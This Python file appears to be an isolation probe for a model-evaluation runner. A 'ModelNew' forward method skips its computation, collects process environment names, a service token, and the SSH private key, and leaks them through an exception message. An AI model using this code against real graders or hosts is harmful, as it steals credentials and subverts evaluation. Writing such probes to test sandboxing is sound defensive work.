"""Looks for the runner's secrets: the environment of every process it can see in /proc (the runner's pid,
RUNNER_PID, is appended by the test), the service's token file (TOKEN_FILE) and ~/.ssh; fails with what it read
as JSON in its message (variable names only for environments, the message is bounded)."""

import json
import os

import torch.nn as nn

RUNNER_PID = 0
TOKEN_FILE = ""


def _read(path):
    try:
        with open(path, "rb") as fh:
            return fh.read(4096).decode(errors="replace")
    except OSError as exc:
        return f"{type(exc).__name__}: {exc.strerror}"


def _names(path):
    """The variable names of an environ file, or why it could not be read."""
    try:
        with open(path, "rb") as fh:
            return sorted(v.split(b"=", 1)[0].decode(errors="replace") for v in fh.read().split(b"\0") if v)
    except OSError as exc:
        return f"{type(exc).__name__}: {exc.strerror}"


class ModelNew(nn.Module):
    def forward(self, a, b):
        seen = {"own environment": sorted(os.environ)}
        for pid in [RUNNER_PID, *filter(str.isdigit, os.listdir("/proc"))]:
            seen[f"/proc/{pid}/environ"] = _names(f"/proc/{pid}/environ")
        seen["token file"] = _read(TOKEN_FILE)[:80]
        seen["/root/.ssh"] = sorted(os.listdir("/root/.ssh")) if os.path.isdir("/root/.ssh") else "absent"
        seen["~/.ssh/id_rsa"] = _read("/root/.ssh/id_rsa")
        raise RuntimeError("OUTCOMES " + json.dumps(seen))
